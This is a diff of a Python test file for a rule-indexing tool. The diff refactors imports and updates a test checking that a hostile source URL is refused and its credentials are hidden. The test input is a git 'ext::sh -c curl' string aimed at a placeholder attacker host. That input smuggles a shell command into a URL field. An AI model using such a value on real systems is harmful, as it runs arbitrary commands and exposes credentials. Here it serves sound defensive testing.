@@ -27,7 +27,8 @@ from indexer.model import IndexMissing
 from indexer.parse import RuleFileError, parse_yaml
 from indexer.parsers import ParserFailed
 from indexer.refresh import Locked
-from indexer.sources import SourceError, SourceSpec
+from indexer.repository import SourceError
+from indexer.sources import get
 
 from test_hostile import GOOD, INDEXER, clean_env, lolbas_entry, make_repo
 
@@ -77,7 +78,7 @@ def test_a_rule_file_error_carries_path_and_line_apart_from_its_reason() -> None
 
 def test_a_source_error_names_its_source_and_hides_credentials() -> None:
     with pytest.raises(SourceError) as caught:
-        SourceSpec.default("sigma", "ext::sh -c 'curl https://u:secret@evil.example'", "master", Path("x"))
+        get("sigma").spec("ext::sh -c 'curl https://u:secret@evil.example'", "master", Path("x"))
     exc = caught.value
     assert exc.source == "sigma" and str(exc).startswith("sigma: refused URL") and "secret" not in str(exc)
     assert exc.where == "sigma" and not str(exc.reason).startswith("sigma")
